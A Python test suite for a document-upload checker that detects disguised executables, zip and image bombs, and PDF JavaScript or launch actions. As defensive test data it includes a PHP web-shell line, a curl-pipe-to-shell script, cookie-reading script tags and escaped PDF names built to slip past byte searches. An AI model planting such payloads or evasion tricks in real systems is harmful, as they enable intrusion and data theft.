"""Document upload checks: content is sniffed, bombs and active content are named, limits hold while streaming."""

from __future__ import annotations

import functools
import gzip
import hashlib
import io
import os
import pickle
import stat
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from homeward.cases.document_checks import (
    DEFAULT_MAX_BYTES,
    FORMAT_NAMES,
    PDF_FEATURE_NAMES,
    CheckedDocument,
    DocumentKind,
    DocumentLimits,
    DocumentRejected,
    RejectionReason,
    check_document,
    store_document,
)

MB = 1024 * 1024

# Most tests parse in-process; the isolated checker (the default) has tests of its own below.
check = functools.partial(check_document, isolated=False)


def rejection(data: object, **kwargs: object) -> DocumentRejected:
    with pytest.raises(DocumentRejected) as caught:
        check(data, **kwargs)
    return caught.value


# --- building test files -----------------------------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (300, 200), **save: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "teal").save(buffer, fmt, **save)
    return buffer.getvalue()


def pdf_bytes(
    pages: int = 1, *, javascript: bool = False, attachment: bool = False, password: str | None = None
) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if javascript:
        writer.add_open_action(JavaScript("app.alert('hello');"))
    if attachment:
        writer.add_attachment("invoice.exe", b"MZ not really")
    if password is not None:
        writer.encrypt(user_password=password, owner_password="owner secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def handmade_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"") -> bytes:
    """A one-page PDF written byte by byte, to put entries pypdf's writer would not (escaped names, launches)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def slow_pdf(streams: int) -> bytes:
    """A small PDF whose object streams each unpack to 15 MB of whitespace before their one object: in
    pure-Python parsing that costs about a second per stream, for 15 KB of file."""
    out = bytearray(b"%PDF-1.7\n")
    entries: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
    ]
    number = 1
    for body in bodies:
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        number += 1
    for _ in range(streams):
        stream_number, member = number, number + 1
        header = b"%d 0 " % member
        packed = zlib.compress(header + bytes(15 * MB) + b"<< /A 1 >>", 1)
        entries[stream_number] = (1, len(out), 0)
        entries[member] = (2, stream_number, 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
            stream_number,
            len(header),
            len(packed),
        )
        out += packed + b"\nendstream\nendobj\n"
        number += 2
    entries[number] = (1, len(out), 0)
    rows = zlib.compress(b"".join(struct.pack(">BIH", *entries[i]) for i in range(number + 1)))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n" % (
        number,
        number + 1,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[number][1]
    return bytes(out)


def png_declaring(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


PE_HEADER = b"MZ\x90\x00\x03" + bytes(55) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200)
ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
MACHO_HEADER = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(56)

PDF = pdf_bytes()
PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
TIFF = image_bytes("TIFF")
WEBP = image_bytes("WEBP")


# --- accepted documents ------------------------------------------------------------------------------------


def test_a_real_pdf_is_accepted_with_its_page_count_and_digest() -> None:
    content = pdf_bytes(pages=3)

    document = check(content, filename="decision.pdf", content_type="application/pdf")

    assert document.kind is DocumentKind.PDF
    assert (document.media_type, document.extension) == ("application/pdf", ".pdf")
    assert document.page_count == 3
    assert (document.width, document.height) == (None, None)
    assert document.size == len(content)
    assert document.sha256 == hashlib.sha256(content).hexdigest()
    assert document.content == content


@pytest.mark.parametrize(
    ("content", "filename", "kind", "media_type", "extension"),
    [
        (PNG, "passport.png", DocumentKind.PNG, "image/png", ".png"),
        (JPEG, "passport.JPEG", DocumentKind.JPEG, "image/jpeg", ".jpg"),
        (TIFF, "birth-certificate.tif", DocumentKind.TIFF, "image/tiff", ".tiff"),
        (WEBP, "photo.webp", DocumentKind.WEBP, "image/webp", ".webp"),
    ],
)
def test_scans_are_accepted_with_their_pixel_size(
    content: bytes, filename: str, kind: DocumentKind, media_type: str, extension: str
) -> None:
    document = check(content, filename=filename, content_type=media_type)

    assert (document.kind, document.media_type, document.extension) == (kind, media_type, extension)
    assert (document.width, document.height, document.page_count) == (300, 200, 1)


def test_a_multi_page_tiff_counts_its_pages() -> None:
    pages = [Image.new("L", (100, 140)) for _ in range(3)]
    content = image_bytes("TIFF", save_all=True, append_images=pages)

    assert check(content, filename="case-file.tiff").page_count == 4


def test_without_a_name_or_content_type_the_content_alone_decides() -> None:
    assert check(JPEG).kind is DocumentKind.JPEG
    assert check(JPEG, filename="scan", content_type="application/octet-stream").kind is DocumentKind.JPEG


def test_equivalent_names_and_content_type_parameters_are_no_mismatch() -> None:
    assert check(JPEG, filename="C:\\fakepath\\scan.jfif", content_type="image/pjpeg").kind is DocumentKind.JPEG
    assert check(PDF, filename="x.PDF", content_type="Application/PDF; charset=binary").kind is DocumentKind.PDF


def test_file_objects_and_chunk_iterables_are_read_alike() -> None:
    from_file = check(io.BytesIO(PDF))
    from_chunks = check(PDF[i : i + 100] for i in range(0, len(PDF), 100))

    assert from_file == from_chunks == check(PDF)


def test_chunks_must_be_bytes() -> None:
    with pytest.raises(TypeError, match="bytes, not str"):
        check(iter(["%PDF-1.7"]))


# --- size --------------------------------------------------------------------------------------------------


def test_sixty_megabytes_are_refused_as_too_large_without_pulling_them_all() -> None:
    pulled = 0

    def upload() -> Iterator[bytes]:
        nonlocal pulled
        for _ in range(60):
            pulled += MB
            yield bytes(MB)

    refused = rejection(upload(), filename="huge.pdf")

    assert refused.reason_code is RejectionReason.TOO_LARGE
    assert refused.params["max_bytes"] == DEFAULT_MAX_BYTES
    assert "larger than the limit of 20 MB" in refused.message
    assert pulled <= DEFAULT_MAX_BYTES + MB


def test_a_file_object_is_read_no_further_than_one_byte_past_the_limit() -> None:
    class SixtyMegabytes:
        read_so_far = 0

        def read(self, size: int, /) -> bytes:
            size = min(size, 60 * MB - self.read_so_far)
            self.read_so_far += size
            return bytes(size)

    upload = SixtyMegabytes()

    refused = rejection(upload, max_bytes=5 * MB)

    assert refused.reason_code is RejectionReason.TOO_LARGE
    assert upload.read_so_far == 5 * MB + 1


def test_a_file_of_exactly_the_limit_is_not_too_large() -> None:
    assert check(PNG, max_bytes=len(PNG)).size == len(PNG)
    assert rejection(PNG, max_bytes=len(PNG) - 1).reason_code is RejectionReason.TOO_LARGE


@pytest.mark.parametrize("source", [b"", io.BytesIO(b""), iter([b"", b""])])
def test_an_empty_file_is_refused(source: object) -> None:
    refused = rejection(source, filename="scan.pdf")

    assert refused.reason_code is RejectionReason.EMPTY
    assert refused.message == "“scan.pdf” is empty."


# --- what the file really is -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "detected", "named"),
    [
        (PE_HEADER, "pe_executable", "a Windows executable"),
        (ELF_HEADER, "elf_executable", "a Linux/Unix executable (ELF)"),
        (MACHO_HEADER, "macho_executable", "a macOS executable (Mach-O)"),
        (b"#!/bin/sh\ncurl http://example.org | sh\n", "script", "a script (#!/bin/sh)"),
        (b"<?php system($_GET['c']); ?>", "php", "a PHP script"),
    ],
)
def test_a_program_claiming_to_be_a_pdf_is_refused_naming_both(content: bytes, detected: str, named: str) -> None:
    refused = rejection(content, filename="passport.pdf", content_type="application/pdf")

    assert refused.reason_code is RejectionReason.EXECUTABLE
    assert refused.params["detected"] == detected
    assert refused.params["claimed"] == "pdf"
    assert refused.message.startswith(f"“passport.pdf” claims to be a PDF document but is {named};")


def test_a_program_that_claims_nothing_is_still_named() -> None:
    refused = rejection(PE_HEADER, filename="setup.exe")

    assert refused.reason_code is RejectionReason.EXECUTABLE
    assert refused.params["claimed"] is None
    assert refused.message == "“setup.exe” is a Windows executable; programs and scripts cannot be uploaded."


@pytest.mark.parametrize(
    ("content", "detected"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(1)</script>", "html"),
        (b"\xef\xbb\xbf  <script>alert(document.cookie)</script>", "html"),
        (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "svg"),
        (b"%!PS-Adobe-3.0\n(hello) show\n", "postscript"),
    ],
)
def test_markup_and_postscript_are_active_content(content: bytes, detected: str) -> None:
    refused = rejection(content, filename="scan.jpg")

    assert refused.reason_code is RejectionReason.ACTIVE_CONTENT
    assert refused.params["detected"] == detected
    assert refused.params["claimed"] == "jpeg"
    assert "claims to be a JPEG image but is" in refused.message
    assert "can run code when opened" in refused.message


def test_an_extension_that_contradicts_the_content_is_a_mismatch() -> None:
    refused = rejection(PDF, filename="passport.png")

    assert refused.reason_code is RejectionReason.TYPE_MISMATCH
    assert dict(refused.params) == {
        "filename": "passport.png",
        "claimed": "png",
        "claimed_by": "extension",
        "claimed_value": ".png",
        "detected": "pdf",
    }
    assert refused.message == "“passport.png” claims to be a PNG image (by its extension .png) but is a PDF document."


def test_a_content_type_that_contradicts_the_content_is_a_mismatch() -> None:
    refused = rejection(PNG, filename="scan.png", content_type="image/jpeg")

    assert refused.reason_code is RejectionReason.TYPE_MISMATCH
    assert (refused.params["claimed_by"], refused.params["claimed_value"]) == ("content_type", "image/jpeg")
    assert (
        refused.message == "“scan.png” claims to be a JPEG image (by its content type image/jpeg) but is a PNG image."
    )


@pytest.mark.parametrize(
    ("content", "detected"),
    [
        (image_bytes("GIF"), "gif"),
        (image_bytes("BMP"), "bmp"),
        (b"Statement of the applicant\nI, the undersigned...\n", "text"),
        ("Заявление о возвращении в Агдам\n".encode("cp1251"), "text"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100), "heic"),
        (b"\x00\x01\x02\x03" * 50, "unknown"),
    ],
)
def test_other_kinds_are_not_allowed_by_name(content: bytes, detected: str) -> None:
    refused = rejection(content)

    assert refused.reason_code is RejectionReason.NOT_ALLOWED
    assert refused.params["detected"] == detected
    assert refused.params["accepted"] == ("pdf", "jpeg", "png", "tiff", "webp")
    assert refused.message.endswith("which is not accepted here; upload PDF, JPEG, PNG, TIFF or WebP.")


def test_the_caller_chooses_the_accepted_kinds() -> None:
    refused = rejection(PNG, accepted={DocumentKind.PDF})

    assert refused.reason_code is RejectionReason.NOT_ALLOWED
    assert refused.params["accepted"] == ("pdf",)
    assert refused.message == "The file is a PNG image, which is not accepted here; upload PDF."


def test_every_format_code_in_the_params_has_an_english_name() -> None:
    assert FORMAT_NAMES["pe_executable"] == "a Windows executable"
    assert set(PDF_FEATURE_NAMES) == {"javascript", "launch_action", "embedded_file", "xfa_form", "rich_media"}


def test_a_rejection_survives_pickling_for_task_queues() -> None:
    refused = rejection(PE_HEADER, filename="passport.pdf")

    copy = pickle.loads(pickle.dumps(refused))  # noqa: S301 - our own bytes

    assert (copy.reason_code, copy.message, dict(copy.params)) == (
        refused.reason_code,
        refused.message,
        dict(refused.params),
    )


def test_the_reason_codes_are_the_documented_ones() -> None:
    assert {reason.value for reason in RejectionReason} == {
        "too_large",
        "empty",
        "type_mismatch",
        "executable",
        "not_allowed",
        "archive_bomb",
        "image_bomb",
        "corrupt",
        "encrypted_pdf",
        "active_content",
    }


# --- archives ----------------------------------------------------------------------------------------------


def test_a_zip_of_zeros_is_named_a_zip_bomb_without_being_extracted() -> None:
    started = time.perf_counter()
    bomb = zip_bytes({"scan.pdf": bytes(25 * MB)})

    refused = rejection(bomb, filename="documents.pdf")

    assert refused.reason_code is RejectionReason.ARCHIVE_BOMB
    assert refused.params["detected"] == "zip"
    assert refused.params["unpacked_bytes"] == 25 * MB
    assert refused.params["packed_bytes"] == len(bomb)
    assert isinstance(refused.params["ratio"], int) and refused.params["ratio"] > 100
    assert "a zip bomb" in refused.message
    assert time.perf_counter() - started < 1


def test_a_central_directory_declaring_gigabytes_is_a_zip_bomb() -> None:
    archive = bytearray(zip_bytes({"a.txt": b"hello", "b.txt": b"world"}))
    entry = archive.index(b"PK\x01\x02")
    archive[entry + 24 : entry + 28] = struct.pack("<I", 0xF0000000)

    refused = rejection(bytes(archive))

    assert refused.reason_code is RejectionReason.ARCHIVE_BOMB
    assert refused.params["unpacked_bytes"] == 0xF0000000 + 5
    assert "would unpack to 3.75 GB" in refused.message


def test_a_gzip_of_zeros_is_a_decompression_bomb() -> None:
    refused = rejection(gzip.compress(bytes(30 * MB), compresslevel=1), filename="scan.tiff.gz")

    assert refused.reason_code is RejectionReason.ARCHIVE_BOMB
    assert refused.params["detected"] == "gzip"
    assert "a decompression bomb" in refused.message


def test_an_ordinary_zip_is_not_allowed_rather_than_a_bomb() -> None:
    refused = rejection(zip_bytes({"zeros.bin": bytes(MB)}), filename="scans.zip")

    assert refused.reason_code is RejectionReason.NOT_ALLOWED
    assert refused.message.startswith("“scans.zip” is a ZIP archive, which is not accepted here")


@pytest.mark.parametrize(
    ("members", "detected"),
    [
        ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}, "docx"),
        ({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}, "xlsx"),
        ({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, "odt"),
        ({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe"}, "jar"),
    ],
)
def test_zip_based_formats_are_named(members: dict[str, bytes], detected: str) -> None:
    if detected == "odt":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("mimetype", members["mimetype"], compress_type=zipfile.ZIP_STORED)
            archive.writestr("content.xml", members["content.xml"])
        content = buffer.getvalue()
    else:
        content = zip_bytes(members)

    assert rejection(content).params["detected"] == detected


def test_an_office_document_that_is_a_zip_bomb_is_named_as_both() -> None:
    bomb = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(25 * MB)})

    refused = rejection(bomb, filename="statement.docx")

    assert refused.reason_code is RejectionReason.ARCHIVE_BOMB
    assert refused.message.startswith("“statement.docx” is a Word document (.docx) that would unpack to 25 MB")


# --- images ------------------------------------------------------------------------------------------------


def test_a_png_declaring_100000_by_100000_pixels_is_an_image_bomb() -> None:
    refused = rejection(png_declaring(100_000, 100_000), filename="passport.png")

    assert refused.reason_code is RejectionReason.IMAGE_BOMB
    assert refused.params["limit"] == "pixels"
    assert (refused.params["width"], refused.params["height"]) == (100_000, 100_000)
    assert refused.params["pixels"] == 10_000_000_000
    assert refused.message.startswith("“passport.png” has 100000×100000 pixels, more than the limit of 75,000,000")


def test_the_caller_sets_the_pixel_limit() -> None:
    refused = rejection(JPEG, limits=DocumentLimits(max_pixels=50_000))

    assert refused.reason_code is RejectionReason.IMAGE_BOMB
    assert (refused.params["width"], refused.params["height"], refused.params["max_pixels"]) == (300, 200, 50_000)


def test_pages_of_a_tiff_count_towards_the_frame_and_total_pixel_limits() -> None:
    content = image_bytes("TIFF", save_all=True, append_images=[Image.new("L", (300, 200)) for _ in range(5)])

    too_many_frames = rejection(content, limits=DocumentLimits(max_frames=4))
    too_many_pixels = rejection(content, limits=DocumentLimits(max_total_pixels=300 * 200 * 3))

    assert (too_many_frames.reason_code, too_many_frames.params["limit"]) == (RejectionReason.IMAGE_BOMB, "frames")
    assert (too_many_pixels.reason_code, too_many_pixels.params["limit"]) == (
        RejectionReason.IMAGE_BOMB,
        "total_pixels",
    )


@pytest.mark.parametrize(("content", "detected"), [(PNG, "png"), (JPEG, "jpeg"), (TIFF, "tiff"), (WEBP, "webp")])
def test_a_truncated_image_is_corrupt(content: bytes, detected: str) -> None:
    refused = rejection(content[: len(content) * 2 // 3], filename="scan")

    assert refused.reason_code is RejectionReason.CORRUPT
    assert (refused.params["detected"], refused.params["problem"]) == (detected, "unreadable")
    assert refused.message.startswith("“scan” cannot be opened as")


def test_a_png_with_a_broken_checksum_is_corrupt() -> None:
    damaged = bytearray(PNG)
    damaged[40] ^= 0xFF

    assert rejection(bytes(damaged)).reason_code is RejectionReason.CORRUPT


# --- PDFs --------------------------------------------------------------------------------------------------


def test_a_pdf_with_javascript_is_refused_saying_so() -> None:
    refused = rejection(pdf_bytes(javascript=True), filename="decision.pdf")

    assert refused.reason_code is RejectionReason.ACTIVE_CONTENT
    assert refused.params["features"] == ("javascript",)
    assert refused.message.startswith("“decision.pdf” is a PDF that contains JavaScript; such PDFs cannot be uploaded.")


def test_a_pdf_with_javascript_and_an_attachment_names_both() -> None:
    refused = rejection(pdf_bytes(javascript=True, attachment=True))

    assert refused.params["features"] == ("javascript", "embedded_file")
    assert "contains JavaScript and an embedded file;" in refused.message


@pytest.mark.parametrize(
    ("catalog_extra", "page_extra", "features"),
    [
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"", ("launch_action",)),
        # #61 is "a", #53 is "S": the same names, escaped to slip past a byte search.
        (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", b"", ("javascript",)),
        (b"/AcroForm << /Fields [] /XFA (<xdp/>) >>", b"", ("xfa_form",)),
        (b"", b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>", ("javascript",)),
        (b"", b"/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) >> >>]", ("embedded_file",)),
        (b"", b"/Annots [<< /Subtype /RichMedia >>]", ("rich_media",)),
    ],
)
def test_active_pdf_content_is_found_wherever_it_hides(
    catalog_extra: bytes, page_extra: bytes, features: tuple[str, ...]
) -> None:
    refused = rejection(handmade_pdf(catalog_extra, page_extra))

    assert refused.reason_code is RejectionReason.ACTIVE_CONTENT
    assert refused.params["features"] == features


def test_a_handmade_pdf_without_active_content_is_accepted() -> None:
    assert (
        check(
            handmade_pdf(page_extra=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>]")
        ).page_count
        == 1
    )


def test_a_password_protected_pdf_is_refused_as_encrypted() -> None:
    refused = rejection(pdf_bytes(password="secret"), filename="bank.pdf")

    assert refused.reason_code is RejectionReason.ENCRYPTED_PDF
    assert refused.params["needs_password"] is True
    assert "protected by a password" in refused.message


def test_a_pdf_that_opens_without_a_password_but_is_encrypted_says_so() -> None:
    refused = rejection(pdf_bytes(password=""))

    assert refused.reason_code is RejectionReason.ENCRYPTED_PDF
    assert refused.params["needs_password"] is False
    assert "opens without a password" in refused.message


def test_a_pdf_without_pages_is_corrupt() -> None:
    refused = rejection(pdf_bytes(pages=0))

    assert (refused.reason_code, refused.params["problem"]) == (RejectionReason.CORRUPT, "no_pages")


def test_a_truncated_pdf_is_corrupt() -> None:
    refused = rejection(PDF[:200])

    assert (refused.reason_code, refused.params["problem"]) == (RejectionReason.CORRUPT, "unreadable")


def test_a_pdf_with_more_objects_than_the_limit_is_too_complex_to_check() -> None:
    refused = rejection(pdf_bytes(pages=20), limits=DocumentLimits(max_pdf_objects=10))

    assert (refused.reason_code, refused.params["problem"]) == (RejectionReason.CORRUPT, "too_complex")
    assert "cannot be checked safely" in refused.message


# --- isolation ---------------------------------------------------------------------------------------------


def isolated_rejection(data: bytes, **kwargs: object) -> DocumentRejected:
    with pytest.raises(DocumentRejected) as caught:
        check_document(data, **kwargs)
    return caught.value


def test_the_isolated_checker_accepts_and_refuses_like_the_in_process_one() -> None:
    accepted = check_document(PNG, filename="scan.png")
    refused = isolated_rejection(pdf_bytes(javascript=True), filename="x.pdf")
    in_process = rejection(pdf_bytes(javascript=True), filename="x.pdf")

    assert accepted == check(PNG, filename="scan.png")
    assert (refused.reason_code, refused.message, dict(refused.params)) == (
        in_process.reason_code,
        in_process.message,
        dict(in_process.params),
    )


def test_the_isolated_checker_stops_a_pdf_that_would_take_too_long() -> None:
    content = slow_pdf(streams=3)
    started = time.perf_counter()

    refused = isolated_rejection(content, limits=DocumentLimits(max_seconds=0.5))

    assert (refused.reason_code, refused.params["problem"]) == (RejectionReason.CORRUPT, "too_complex")
    assert refused.params["detail"] == "it takes longer than 0.5 seconds"
    assert time.perf_counter() - started < 2


def test_the_isolated_checker_stops_an_image_that_needs_too_much_memory() -> None:
    refused = isolated_rejection(image_bytes("PNG", size=(4000, 3000)), limits=DocumentLimits(max_memory_bytes=64 * MB))

    assert (refused.reason_code, refused.params["problem"]) == (RejectionReason.CORRUPT, "too_complex")


# --- hostile input never crashes ---------------------------------------------------------------------------

SAMPLES = [PDF, PNG, JPEG, TIFF, WEBP, handmade_pdf(), zip_bytes({"a.txt": b"a" * 100})]


def outcome(content: bytes) -> CheckedDocument | DocumentRejected:
    try:
        return check(content, filename="upload.bin")
    except DocumentRejected as refused:
        assert refused.reason_code in set(RejectionReason)
        assert refused.message
        return refused


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_are_accepted_or_refused_never_crash(content: bytes) -> None:
    outcome(content)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(SAMPLES),
    st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), max_size=8),
    st.floats(0.05, 1),
)
def test_damaged_documents_are_accepted_or_refused_never_crash(
    sample: bytes, damage: list[tuple[float, int]], keep: float
) -> None:
    content = bytearray(sample)
    for where, value in damage:
        content[int(where * len(content))] = value
    result = outcome(bytes(content[: max(1, int(keep * len(content)))]))

    if isinstance(result, CheckedDocument):
        assert result.size <= len(sample)


# --- storing -----------------------------------------------------------------------------------------------


def test_an_accepted_document_is_stored_owner_only_and_whole(tmp_path: Path) -> None:
    destination = tmp_path / "0001.pdf"
    destination.write_bytes(b"an older version")
    destination.chmod(0o644)

    stored = store_document(check(PDF), destination)

    assert stored == destination
    assert destination.read_bytes() == PDF
    assert stat.S_IMODE(destination.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["0001.pdf"]


def test_a_failed_store_leaves_no_temporary_file(tmp_path: Path) -> None:
    (tmp_path / "taken").mkdir()

    with pytest.raises(OSError):
        store_document(check(PDF), tmp_path / "taken")

    assert os.listdir(tmp_path) == ["taken"]
